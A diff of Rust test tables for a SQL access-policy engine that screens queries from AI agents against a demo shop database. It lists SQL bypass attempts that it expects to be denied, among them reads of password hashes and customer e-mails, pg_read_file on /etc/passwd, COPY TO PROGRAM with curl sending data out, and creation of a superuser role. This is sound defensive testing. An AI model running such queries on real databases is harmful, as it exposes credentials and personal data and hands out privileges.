@@ -1,17 +1,33 @@
 //! Table-driven policy cases: (agent, SQL) → "allow" or the reason code of
 //! the denial. Offline: the shipped rules, tests/rules and a hand-built
 //! catalog of the demo shop (tests/common/policy.rs).
+//!
+//! An expectation is `"allow"`, one reason code, several reason codes
+//! separated by `|` (any of them), or `"deny"` (any denial at all, for
+//! syntax whose fate depends on the parser: it must never be allowed).
+//!
+//! The attack classes come from SECURITY.md; each is covered by several
+//! variants, not just its textbook example. Semantics were checked against
+//! PostgreSQL 15 where the difference matters (noted at the case).
 
 mod common;
 
 use common::policy::outcome;
+
+/// Whether `got` satisfies `expected` (see the module comment).
+fn matches(expected: &str, got: &str) -> bool {
+    match expected {
+        "deny" => got != "allow",
+        _ => expected.split('|').any(|e| e == got),
+    }
+}
 
 /// Runs a table and reports every mismatch at once.
 fn check(cases: &[(&str, &str, &str)]) {
     let mut failures = Vec::new();
     for (agent, sql, expected) in cases {
         let got = outcome(agent, sql);
-        if got != *expected {
+        if !matches(expected, &got) {
             failures.push(format!(
                 "  [{agent}] {sql}\n      expected {expected}, got {got}"
             ));
@@ -28,6 +44,7 @@ fn check(cases: &[(&str, &str, &str)]) {
 
 const A: &str = "analytics";
 const S: &str = "support-bot";
+const T: &str = "tester";
 
 #[test]
 fn basics() {
@@ -65,5 +82,2613 @@ fn basics() {
         (A, "SELECT * FROM pg_authid", "credential_catalog"),
         (A, "SELECT oid FROM pg_type", "allow"),
         (A, "selec 1", "parse_error"),
+    ]);
+}
+
+/// Unquoted names fold to lower case; quoted names are exact (SECURITY:
+/// "Case and quoting").
+#[test]
+fn case_and_quoting() {
+    check(&[
+        (A, "SELECT * FROM ORDERS", "allow"),
+        (A, "SELECT * FROM Orders", "allow"),
+        (A, r#"SELECT * FROM "orders""#, "allow"),
+        (A, r#"SELECT * FROM "Orders""#, "table_not_allowed"),
+        (A, r#"SELECT * FROM "ORDERS""#, "table_not_allowed"),
+        (A, "SELECT * FROM STAFF_USERS", "table_denied"),
+        (A, "SELECT * FROM Staff_Users", "table_denied"),
+        (A, r#"SELECT * FROM "staff_users""#, "table_denied"),
+        // A different (nonexistent) table: no rule allows it.
+        (A, r#"SELECT * FROM "Staff_Users""#, "table_not_allowed"),
+        (A, "SELECT * FROM PAYMENT_METHODS", "table_denied"),
+        (A, "SELECT EMAIL FROM customers", "column_denied"),
+        (A, r#"SELECT "email" FROM customers"#, "column_denied"),
+        (A, "SELECT C.EMAIL FROM CUSTOMERS C", "column_denied"),
+        (A, r#"SELECT "c".email FROM customers c"#, "column_denied"),
+        (
+            A,
+            r#"SELECT c."email" FROM customers AS c"#,
+            "column_denied",
+        ),
+        (A, "SELECT COUNTRY, LOYALTY_TIER FROM CUSTOMERS", "allow"),
+        (A, r#"SELECT "country" FROM "customers""#, "allow"),
+        // An alias named like an allowed table does not launder a denied one.
+        (A, "SELECT * FROM staff_users AS orders", "table_denied"),
+        (
+            A,
+            "SELECT orders.username FROM staff_users orders",
+            "table_denied",
+        ),
+        (
+            S,
+            r#"INSERT INTO "Refunds" (order_id) VALUES (1)"#,
+            "table_not_allowed",
+        ),
+        (
+            S,
+            r#"UPDATE "ORDERS" SET status = 'x' WHERE id = 1"#,
+            "table_not_allowed",
+        ),
+        (S, "UPDATE ORDERS SET STATUS = 'x' WHERE ID = 1", "allow"),
+        (
+            S,
+            r#"UPDATE orders SET "total_cents" = 0 WHERE id = 1"#,
+            "column_denied",
+        ),
+        // Unicode-escaped identifiers are rejected syntax: fail closed.
+        (A, r#"SELECT * FROM U&"staff_users""#, "deny"),
+        (A, r#"SELECT * FROM U&"\0073taff_users""#, "deny"),
+    ]);
+}
+
+#[test]
+fn schema_qualified_names() {
+    check(&[
+        (A, "SELECT * FROM public.orders", "allow"),
+        (A, "SELECT * FROM PUBLIC.ORDERS", "allow"),
+        (A, r#"SELECT * FROM "public"."orders""#, "allow"),
+        (A, "SELECT * FROM shop.public.orders", "allow"),
+        (A, "SELECT o.id FROM shop.public.orders o", "allow"),
+        (A, "SELECT * FROM public.staff_users", "table_denied"),
+        (A, r#"SELECT * FROM "public"."staff_users""#, "table_denied"),
+        (A, r#"SELECT * FROM "public".staff_users"#, "table_denied"),
+        (A, "SELECT * FROM shop.public.staff_users", "table_denied"),
+        (
+            A,
+            "SELECT * FROM SHOP.PUBLIC.PAYMENT_METHODS",
+            "table_denied",
+        ),
+        (
+            A,
+            r#"SELECT * FROM public."Staff_Users""#,
+            "table_not_allowed",
+        ),
+        // Another database: Postgres refuses cross-database references.
+        (A, "SELECT * FROM otherdb.public.orders", "deny"),
+        (A, "SELECT * FROM a.b.c.d", "deny"),
+        (A, "SELECT * FROM ONLY staff_users", "table_denied"),
+        (A, "SELECT count(*) FROM ONLY orders", "allow"),
+        (A, "SELECT * FROM staff_users*", "deny"),
+        // Other schemas have no rules.
+        (A, "SELECT * FROM pg_temp.orders", "table_not_allowed"),
+        (A, "SELECT * FROM audit.orders", "table_not_allowed"),
+        (
+            A,
+            "SELECT * FROM pg_catalog.pg_authid",
+            "credential_catalog",
+        ),
+        (
+            A,
+            "SELECT * FROM PG_CATALOG.PG_AUTHID",
+            "credential_catalog",
+        ),
+        (
+            A,
+            r#"SELECT * FROM "pg_catalog"."pg_authid""#,
+            "credential_catalog",
+        ),
+        (A, "SELECT rolname FROM pg_authid", "credential_catalog"),
+        (
+            A,
+            "SELECT * FROM shop.pg_catalog.pg_shadow",
+            "credential_catalog",
+        ),
+        (A, "SELECT email FROM public.customers", "column_denied"),
+        (
+            A,
+            "SELECT public.customers.email FROM public.customers",
+            "column_denied",
+        ),
+        (
+            A,
+            "SELECT customers.email FROM public.customers",
+            "column_denied",
+        ),
+        (A, "SELECT public.customers.country FROM customers", "allow"),
+        // Postgres reads `a.b.c` as schema.table.column even when a FROM item
+        // is called `public` (checked on PG 15: returns the e-mail address).
+        (
+            A,
+            "SELECT public.customers.email FROM customers, (SELECT 1) AS public",
+            "column_denied",
+        ),
+        // database.schema.table.column (checked on PG 15: returns the e-mail).
+        (
+            A,
+            "SELECT shop.public.customers.email FROM customers",
+            "column_denied",
+        ),
+        (
+            A,
+            "SELECT shop.public.customers.country FROM customers",
+            "allow",
+        ),
+        (
+            S,
+            "UPDATE public.orders SET status = 'x' WHERE id = 1",
+            "allow",
+        ),
+        (
+            S,
+            "UPDATE shop.public.orders SET status = 'x' WHERE id = 1",
+            "allow",
+        ),
+        (
+            S,
+            "UPDATE public.staff_users SET role = 'admin' WHERE id = 1",
+            "table_denied",
+        ),
+    ]);
+}
+
+/// CTE names shadow tables only where Postgres says they do.
+#[test]
+fn cte_shadowing() {
+    check(&[
+        (
+            A,
+            "WITH staff_users AS (SELECT 1 AS x) SELECT * FROM staff_users",
+            "allow",
+        ),
+        (
+            A,
+            "WITH secret AS (SELECT * FROM staff_users) SELECT * FROM secret",
+            "table_denied",
+        ),
+        (
+            A,
+            "WITH orders AS (SELECT * FROM staff_users) SELECT * FROM orders",
+            "table_denied",
+        ),
+        // Non-recursive: the inner name is the real table.
+        (
+            A,
+            "WITH staff_users AS (SELECT * FROM staff_users) SELECT * FROM staff_users",
+            "table_denied",
+        ),
+        // A later CTE is not visible to an earlier one.
+        (
+            A,
+            "WITH a AS (SELECT * FROM staff_users), staff_users AS (SELECT 1 AS x) SELECT * FROM a",
+            "table_denied",
+        ),
+        (
+            A,
+            "WITH staff_users AS (SELECT 1 AS x) SELECT * FROM public.staff_users",
+            "table_denied",
+        ),
+        (
+            A,
+            r#"WITH "Staff_Users" AS (SELECT 1 AS x) SELECT * FROM staff_users"#,
+            "table_denied",
+        ),
+        (
+            A,
+            r#"WITH STAFF_USERS AS (SELECT 1 AS x) SELECT * FROM "staff_users""#,
+            "allow",
+        ),
+        (
+            A,
+            r#"WITH staff_users AS (SELECT 1 AS x) SELECT * FROM "STAFF_USERS""#,
+            "table_not_allowed",
+        ),
+        // A CTE's scope ends with its query.
+        (
+            A,
+            "SELECT * FROM (WITH staff_users AS (SELECT 1 AS x) SELECT * FROM staff_users) a, staff_users",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT (WITH staff_users AS (SELECT 1 AS x) SELECT x FROM staff_users), (SELECT count(*) FROM staff_users)",
+            "table_denied",
+        ),
+        (
+            A,
+            "WITH staff_users AS (SELECT 1 AS id) SELECT * FROM orders WHERE id IN (SELECT id FROM staff_users)",
+            "allow",
+        ),
+        (
+            A,
+            "WITH x AS (WITH staff_users AS (SELECT 1 AS y) SELECT * FROM staff_users) SELECT * FROM x",
+            "allow",
+        ),
+        (
+            A,
+            "WITH RECURSIVE staff_users(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM staff_users WHERE n < 3) SELECT * FROM staff_users",
+            "allow",
+        ),
+        (
+            A,
+            "WITH x AS (SELECT email FROM customers) SELECT count(*) FROM x",
+            "column_denied",
+        ),
+        (
+            A,
+            "WITH x AS MATERIALIZED (SELECT id FROM orders) SELECT * FROM x",
+            "allow",
+        ),
+        (
+            A,
+            "WITH x(a) AS (SELECT id FROM orders) SELECT a FROM x",
+            "allow",
+        ),
+        (
+            S,
+            "WITH staff_users AS (SELECT 1 AS id) UPDATE orders SET status = 'x' FROM staff_users WHERE orders.id = staff_users.id",
+            "allow",
+        ),
+        // The target of INSERT/UPDATE/DELETE is always a real table.
+        (
+            S,
+            "WITH staff_users AS (SELECT 1 AS x) INSERT INTO staff_users (username) VALUES ('evil')",
+            "table_denied",
+        ),
+        (
+            S,
+            "WITH staff_users AS (SELECT 1 AS id) UPDATE staff_users SET role = 'admin' WHERE id = 1",
+            "table_denied",
+        ),
+        (
+            S,
+            "WITH refunds AS (SELECT 1 AS x) INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'x', 'kpatel')",
+            "allow",
+        ),
+        (
+            A,
+            "WITH orders AS (SELECT 1 AS id) DELETE FROM orders WHERE id = 1",
+            "statement_class_denied",
+        ),
+    ]);
+}
+
+/// `WITH d AS (DELETE …) SELECT …` writes (SECURITY: "Read-only" that writes).
+#[test]
+fn writable_ctes() {
+    check(&[
+        (
+            A,
+            "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d",
+            "statement_class_denied",
+        ),
+        (
+            A,
+            "WITH u AS (UPDATE orders SET status = 'x' WHERE id = 1 RETURNING id) SELECT * FROM u",
+            "statement_class_denied",
+        ),
+        (
+            A,
+            "WITH i AS (INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 1, 'x', 'kpatel') RETURNING id) SELECT * FROM i",
+            "statement_class_denied",
+        ),
+        (
+            A,
+            "WITH d AS (DELETE FROM orders WHERE id = 1) SELECT 1",
+            "statement_class_denied",
+        ),
+        (
+            S,
+            "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d",
+            "statement_class_denied",
+        ),
+        (
+            S,
+            "WITH u AS (UPDATE orders SET status = 'x' WHERE id = 1 RETURNING id) SELECT * FROM u",
+            "allow",
+        ),
+        (
+            S,
+            "WITH u AS (UPDATE orders SET status = 'x' RETURNING id) SELECT * FROM u",
+            "missing_where",
+        ),
+        (
+            S,
+            "WITH u AS (UPDATE orders SET customer_id = 2 WHERE id = 1 RETURNING id) SELECT * FROM u",
+            "column_denied",
+        ),
+        (
+            S,
+            "WITH i AS (INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'late', 'kpatel') RETURNING id) SELECT * FROM i",
+            "allow",
+        ),
+        (
+            S,
+            "WITH d AS (DELETE FROM staff_users WHERE id = 1 RETURNING *) SELECT 1",
+            "table_denied",
+        ),
+        (
+            T,
+            "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d",
+            "allow",
+        ),
+    ]);
+}
+
+/// `TABLE x` as a query body (SECURITY: not reported by visit_relations).
+#[test]
+fn table_query_forms() {
+    check(&[
+        (A, "TABLE staff_users", "deny"),
+        // Top-level TABLE is rejected syntax (SECURITY).
+        (A, "TABLE orders", "parse_error"),
+        (A, "SELECT * FROM (TABLE staff_users) s", "table_denied"),
+        (A, "SELECT 1 UNION ALL TABLE staff_users", "table_denied"),
+        (
+            A,
+            "WITH c AS (TABLE staff_users) SELECT * FROM c",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT * FROM (TABLE public.staff_users) s",
+            "table_denied",
+        ),
+        (A, "SELECT * FROM (TABLE payment_methods) p", "table_denied"),
+        (A, "SELECT * FROM (TABLE pg_authid) a", "credential_catalog"),
+        (
+            A,
+            "SELECT id FROM orders WHERE id IN (TABLE staff_users)",
+            "table_denied",
+        ),
+        (A, "SELECT EXISTS (TABLE staff_users)", "table_denied"),
+        (
+            A,
+            "SELECT id FROM orders UNION (TABLE staff_users)",
+            "table_denied",
+        ),
+        (A, "SELECT * FROM (TABLE orders) o", "allow"),
+        (
+            A,
+            "SELECT id FROM orders UNION TABLE refunds",
+            "column_denied",
+        ),
+        // TABLE reads every column.
+        (A, "SELECT * FROM (TABLE customers) c", "column_denied"),
+        (
+            A,
+            "SELECT count(*) FROM (TABLE customers) c",
+            "column_denied",
+        ),
+        (
+            A,
+            r#"SELECT * FROM (TABLE "Orders") o"#,
+            "table_not_allowed",
+        ),
+        (
+            A,
+            r#"SELECT * FROM (TABLE "staff_users") o"#,
+            "table_denied",
+        ),
+        (
+            A,
+            "WITH staff_users AS (SELECT 1 AS x) SELECT * FROM (TABLE staff_users) s",
+            "allow",
+        ),
+        (
+            S,
+            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) TABLE staff_users",
+            "table_denied",
+        ),
+    ]);
+}
+
+/// Functions in FROM are functions, not relations; LATERAL sees the left side.
+#[test]
+fn table_functions_and_lateral() {
+    check(&[
+        (
+            A,
+            "SELECT * FROM pg_read_file('/etc/passwd')",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT * FROM pg_catalog.pg_read_file('/etc/passwd') AS f(x)",
+            "function_not_allowed",
+        ),
+        (A, "SELECT * FROM PG_LS_DIR('.')", "function_not_allowed"),
+        (
+            A,
+            "SELECT * FROM dblink('dbname=shop', 'SELECT password_hash FROM staff_users') AS t(h text)",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT * FROM public.dblink('dbname=shop', 'SELECT 1') AS t(x int)",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT * FROM query_to_xml('SELECT * FROM staff_users', true, false, '') AS x",
+            "function_not_allowed",
+        ),
+        (A, "SELECT * FROM staff_users()", "function_not_allowed"),
+        (A, "SELECT * FROM generate_series(1, 10)", "allow"),
+        (A, "SELECT g FROM generate_series(1, 10) AS g", "allow"),
+        (A, "SELECT * FROM unnest(ARRAY[1, 2, 3]) AS u(x)", "allow"),
+        (A, "SELECT x FROM unnest(ARRAY['a', 'b']) x", "allow"),
+        (
+            A,
+            "SELECT * FROM unnest(ARRAY['a', 'b']) WITH ORDINALITY AS t(v, n)",
+            "allow",
+        ),
+        (A, "SELECT * FROM json_each('{\"a\": 1}'::json)", "allow"),
+        (
+            A,
+            "SELECT * FROM jsonb_array_elements('[1, 2]'::jsonb) AS e",
+            "allow",
+        ),
+        (
+            A,
+            "SELECT * FROM regexp_split_to_table('a,b', ',') AS t",
+            "allow",
+        ),
+        (
+            A,
+            "SELECT o.id, g FROM orders o, LATERAL generate_series(1, o.id::int) AS g",
+            "allow",
+        ),
+        (
+            A,
+            "SELECT o.id, x.n FROM orders o CROSS JOIN LATERAL (SELECT count(*) AS n FROM order_items i WHERE i.order_id = o.id) x",
+            "allow",
+        ),
+        (
+            A,
+            "SELECT o.id, x.country FROM orders o LEFT JOIN LATERAL (SELECT country FROM customers c WHERE c.id = o.customer_id) x ON true",
+            "allow",
+        ),
+        (
+            A,
+            "SELECT o.id, x.email FROM orders o LEFT JOIN LATERAL (SELECT email FROM customers c WHERE c.id = o.customer_id) x ON true",
+            "column_denied",
+        ),
+        (
+            A,
+            "SELECT o.id, s.username FROM orders o CROSS JOIN LATERAL (SELECT username FROM staff_users) s",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT o.id FROM orders o, LATERAL (SELECT pg_sleep(1)) s",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT * FROM orders o, LATERAL pg_ls_dir(o.notes) AS f",
+            "function_not_allowed",
+        ),
+        // Rejected syntax fails closed.
+        (
+            A,
+            "SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_dir('.')) AS t(a, b)",
+            "deny",
+        ),
+    ]);
+}
+
+/// Allowed and denied tables together, and subqueries in every position.
+#[test]
+fn joins_and_subqueries() {
+    check(&[
+        (
+            A,
+            "SELECT o.id FROM orders o JOIN staff_users s ON s.id = o.id",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT o.id FROM orders o LEFT JOIN payment_methods p ON p.customer_id = o.customer_id",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT count(*) FROM orders, staff_users",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT count(*) FROM orders CROSS JOIN staff_users",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT o.id FROM (orders o JOIN staff_users s ON true)",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT o.id FROM orders o FULL JOIN (SELECT id FROM staff_users) s ON s.id = o.id",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id",
+            "column_denied",
+        ),
+        (
+            A,
+            "SELECT o.* FROM orders o JOIN customers c ON c.id = o.customer_id",
+            "allow",
+        ),
+        (
+            A,
+            "SELECT o.*, c.country FROM orders o JOIN customers c ON c.id = o.customer_id",
+            "allow",
+        ),
+        (
+            A,
+            "SELECT email FROM orders JOIN customers ON customers.id = orders.customer_id",
+            "column_denied",
+        ),
+        (
+            A,
+            "SELECT o.id FROM orders o JOIN customers c ON c.email = o.notes",
+            "column_denied",
+        ),
+        (
+            A,
+            "SELECT email FROM (customers JOIN orders ON orders.customer_id = customers.id)",
+            "column_denied",
+        ),
+        (
+            A,
+            "SELECT j.email FROM (customers JOIN orders ON orders.customer_id = customers.id) AS j",
+            "column_denied",
+        ),
+        (
+            A,
+            "SELECT j.* FROM (orders JOIN customers ON customers.id = orders.customer_id) AS j",
+            "column_denied",
+        ),
+        (
+            A,
+            "SELECT s.e FROM (SELECT email AS e FROM customers) s",
+            "column_denied",
+        ),
+        (
+            A,
+            "SELECT country FROM (SELECT * FROM customers) s",
+            "column_denied",
+        ),
+        // Select list, WHERE, HAVING, ORDER BY, LIMIT, OFFSET, VALUES, FILTER, …
+        (
+            A,
+            "SELECT (SELECT max(password_hash) FROM staff_users)",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT id FROM orders WHERE EXISTS (SELECT 1 FROM staff_users)",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT id FROM orders WHERE customer_id IN (SELECT customer_id FROM payment_methods)",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT id FROM orders WHERE 'admin' = ANY (SELECT role FROM staff_users)",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT status FROM orders GROUP BY status HAVING count(*) > (SELECT count(*) FROM payment_methods)",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT id FROM orders ORDER BY (SELECT max(password_hash) FROM staff_users)",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT id FROM orders LIMIT (SELECT count(*) FROM staff_users)",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT id FROM orders OFFSET (SELECT count(*) FROM staff_users)",
+            "table_denied",
+        ),
+        // PG accepts a subquery here; sqlparser does not (fails closed).
+        (
+            A,
+            "SELECT id FROM orders FETCH FIRST (SELECT count(*) FROM staff_users) ROWS ONLY",
+            "table_denied|parse_error",
+        ),
+        (
+            A,
+            "VALUES ((SELECT password_hash FROM staff_users LIMIT 1))",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT * FROM (VALUES ((SELECT username FROM staff_users LIMIT 1))) v(x)",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT count(*) FILTER (WHERE id IN (SELECT id FROM staff_users)) FROM orders",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT status FROM orders GROUP BY status, (SELECT 1 FROM staff_users LIMIT 1)",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT row_number() OVER (ORDER BY (SELECT 1 FROM staff_users LIMIT 1)) FROM orders",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT o.id FROM orders o JOIN order_items i ON i.order_id = o.id AND EXISTS (SELECT 1 FROM staff_users)",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT CASE WHEN EXISTS (SELECT 1 FROM staff_users WHERE role = 'admin') THEN 1 END",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT coalesce((SELECT email FROM customers LIMIT 1), 'x')",
+            "column_denied",
+        ),
+        (
+            A,
+            "SELECT ARRAY(SELECT username FROM staff_users)",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT DISTINCT ON ((SELECT 1 FROM staff_users LIMIT 1)) id FROM orders",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT string_agg(status, ',' ORDER BY (SELECT 1 FROM staff_users LIMIT 1)) FROM orders",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY (SELECT count(*) FROM staff_users)) FROM orders",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT CAST((SELECT password_hash FROM staff_users LIMIT 1) AS text)",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT (SELECT to_jsonb(s) FROM staff_users s LIMIT 1) ->> 'password_hash'",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT id FROM orders WHERE notes LIKE (SELECT username FROM staff_users LIMIT 1)",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT extract(year FROM (SELECT max(last_login_at) FROM staff_users))",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT id FROM orders UNION SELECT id FROM orders ORDER BY (SELECT 1 FROM staff_users LIMIT 1)",
+            "table_denied",
+        ),
+        (
+            A,
+            "SELECT id FROM orders WHERE (id, status) IN (SELECT id, role FROM staff_users)",
+            "table_denied",
+        ),
+        // Correlated subqueries see the outer columns.
+        (
+            A,
+            "SELECT (SELECT count(*) FROM orders o WHERE o.notes = c.email) FROM customers c",
+            "column_denied",
+        ),
+        (
+            A,
+            "SELECT (SELECT count(*) FROM orders WHERE notes = email) FROM customers",
+            "column_denied",
+        ),
+        (A, "SELECT (SELECT email) FROM customers", "column_denied"),
+        (
+            A,
+            "SELECT count(*) FROM orders o WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = o.customer_id AND c.email LIKE 'a%')",
+            "column_denied",
+        ),
+        (
+            A,
+            "SELECT country FROM customers WHERE email LIKE '%@example.com'",
+            "column_denied",
+        ),
+        (
+            A,
+            "SELECT country FROM customers ORDER BY full_name",
+            "column_denied",
+        ),
+        (
+            A,
+            "SELECT country FROM customers GROUP BY country HAVING max(phone) IS NOT NULL",
+            "column_denied",
+        ),
+        // TABLESAMPLE arguments are expressions too (PG 15 runs this subquery).
+        (
+            A,
+            "SELECT count(*) FROM orders TABLESAMPLE BERNOULLI ((SELECT count(*) FROM staff_users))",
+            "table_denied",
+        ),
+        // … and the cross-check must not take an unrelated CTE of the same
+        // name for the real table there (PG 15: 200 rows if there is an
+        // admin, 0 if not).
+        (
+            A,
+            "SELECT count(*) FROM orders TABLESAMPLE BERNOULLI (least(100, 100 * (SELECT count(*) FROM staff_users WHERE role = 'admin'))), (WITH staff_users AS (SELECT 1 AS x) SELECT x FROM staff_users) z",
+            "table_denied",
+        ),
+        // … nor let columns read there escape the column rules (PG 15: 50
+        // rows if some e-mail starts with "ava", 0 if not).
+        (
+            A,
+            "SELECT count(*) FROM customers TABLESAMPLE BERNOULLI (least(100, 100 * (SELECT count(*) FROM customers WHERE email LIKE 'ava%')))",
+            "column_denied",
+        ),
+    ]);
+}
+
+/// Statements that look like reads but create, execute or write.
+#[test]
+fn select_into_and_explain() {
+    check(&[
+        (
+            A,
+            "SELECT * INTO orders_copy FROM orders",
+            "statement_class_denied",
+        ),
+        (
+            A,
+            "SELECT id INTO TEMP t FROM orders",
+            "statement_class_denied",
+        ),
+        (
+            A,
+            "SELECT id INTO UNLOGGED t FROM orders",
+            "statement_class_denied",
+        ),
+        (
+            S,
+            "SELECT * INTO orders_copy FROM orders",
+            "statement_class_denied",
+        ),
+        (A, "SELECT * INTO stolen FROM staff_users", "table_denied"),
+        (T, "SELECT * INTO orders_copy FROM orders", "allow"),
+        (
+            T,
+            "SELECT id INTO pg_catalog.evil FROM orders",
+            "catalog_write",
+        ),
+        (
+            T,
+            "SELECT id INTO audit.evil FROM orders",
+            "table_not_allowed",
+        ),
+        (
+            A,
+            "CREATE TABLE x AS SELECT * FROM orders",
+            "statement_class_denied",
+        ),
+        (
+            A,
+            "CREATE TABLE x AS SELECT * FROM staff_users",
+            "table_denied",
+        ),
+        (A, "EXPLAIN SELECT * FROM orders", "statement_class_denied"),
+        (
+            A,
+            "EXPLAIN ANALYZE SELECT * FROM orders",
+            "statement_class_denied",
+        ),
+        (
+            A,
+            "EXPLAIN (FORMAT JSON) SELECT 1",
+            "statement_class_denied",
+        ),
+        (
+            A,
+            "EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1",
+            "statement_class_denied",
+        ),
+        (
+            A,
+            "explain analyze delete from orders",
+            "statement_class_denied",
+        ),
+        (
+            S,
+            "EXPLAIN ANALYZE UPDATE orders SET status = 'x' WHERE id = 1",
+            "statement_class_denied",
+        ),
+        (T, "EXPLAIN SELECT * FROM orders", "allow"),
+        (T, "EXPLAIN ANALYZE SELECT * FROM orders", "allow"),
+        (
+            T,
+            "EXPLAIN (ANALYZE, BUFFERS) SELECT count(*) FROM orders",
+            "allow",
+        ),
+        (
+            T,
+            "EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1",
+            "allow",
+        ),
+        (T, "EXPLAIN SELECT * FROM pg_authid", "credential_catalog"),
+        (
+            T,
+            "EXPLAIN ANALYZE SELECT nextval('orders_id_seq')",
+            "function_not_allowed",
+        ),
+        (
+            T,
+            "EXPLAIN ANALYZE GRANT SELECT ON orders TO PUBLIC",
+            "deny",
+        ),
+    ]);
+}
+
+/// COPY in every form (SECURITY: inline data, server-side endpoints).
+#[test]
+fn copy_forms() {
+    check(&[
+        (A, "COPY orders TO STDOUT", "statement_class_denied"),
+        (A, "copy orders to stdout", "statement_class_denied"),
+        (S, "COPY orders TO STDOUT", "statement_class_denied"),
+        (S, "COPY refunds FROM STDIN", "statement_class_denied"),
+        (
+            A,
+            "COPY (SELECT id FROM orders) TO STDOUT",
+            "statement_class_denied",
+        ),
+        (
+            A,
+            "COPY (SELECT * FROM staff_users) TO STDOUT",
+            "table_denied",
+        ),
+        (A, "COPY staff_users TO STDOUT", "table_denied"),
+        (T, "COPY orders TO STDOUT", "allow"),
+        (
+            T,
+            "COPY orders TO STDOUT WITH (FORMAT csv, HEADER)",
+            "allow",
+        ),
+        (T, "COPY orders TO STDOUT WITH CSV HEADER", "allow"),
+        (T, "COPY orders (id, status) TO STDOUT", "allow"),
+        (T, "COPY orders FROM STDIN", "allow"),
+        (T, "COPY orders FROM STDIN WITH (FORMAT csv)", "allow"),
+        (T, "COPY orders (id, status) FROM STDIN", "allow"),
+        (
+            T,
+            "COPY (SELECT id, status FROM orders WHERE id < 10) TO STDOUT",
+            "allow",
+        ),
+        // The tester owns the public schema (no deny list): staff_users is
+        // one of its tables.
+        (T, "COPY (SELECT * FROM staff_users) TO STDOUT", "allow"),
+        (T, "COPY staff_users TO STDOUT", "allow"),
+        (
+            T,
+            "COPY (SELECT * FROM pg_authid) TO STDOUT",
+            "credential_catalog",
+        ),
+        (
+            T,
+            "COPY pg_catalog.pg_shadow TO STDOUT",
+            "credential_catalog",
+        ),
+        (T, "COPY audit.log FROM STDIN", "table_not_allowed"),
+        (
+            T,
+            "COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT",
+            "function_not_allowed",
+        ),
+        // Server-side files and programs: never, whatever the classes.
+        (T, "COPY orders TO '/tmp/x'", "copy_server_side"),
+        (T, "COPY orders FROM '/etc/passwd'", "copy_server_side"),
+        (T, "COPY orders FROM PROGRAM 'id'", "copy_server_side"),
+        (
+            T,
+            "COPY orders TO PROGRAM 'curl -d @- http://example.com'",
+            "copy_server_side",
+        ),
+        (T, "COPY (SELECT 1) TO '/tmp/x'", "copy_server_side"),
+        (A, "COPY orders TO '/tmp/x'", "copy_server_side"),
+        (A, "COPY orders FROM PROGRAM 'id'", "copy_server_side"),
+        (
+            T,
+            "COPY orders TO STDOUT; COPY orders FROM PROGRAM 'id'",
+            "copy_server_side",
+        ),
+        // Inline data: Postgres runs what sqlparser swallows as data.
+        (
+            T,
+            "COPY orders FROM STDIN;\n1\t2\n\\.\nDROP TABLE orders",
+            "copy_inline_data|parse_error",
+        ),
+        (
+            A,
+            "COPY orders FROM STDIN;\n1\t2\n\\.\nDROP TABLE orders",
+            "copy_inline_data|parse_error",
+        ),
+        (
+            T,
+            "COPY orders FROM STDIN;\n1\t2\n\\.\n",
+            "copy_inline_data|parse_error",
+        ),
+        (
+            T,
+            "COPY orders FROM STDIN; CREATE ROLE evil SUPERUSER",
+            "deny",
+        ),
+        (
+            T,
+            "COPY orders FROM STDIN;\nCREATE ROLE evil SUPERUSER",
+            "deny",
+        ),
+        (
+            T,
+            "COPY orders TO STDOUT; CREATE ROLE evil SUPERUSER",
+            "deny",
+        ),
+    ]);
+}
+
+/// Statement boundaries as Postgres lexes them: one denied statement
+/// denies the string; comments, dollar quotes and escapes hide nothing.
+#[test]
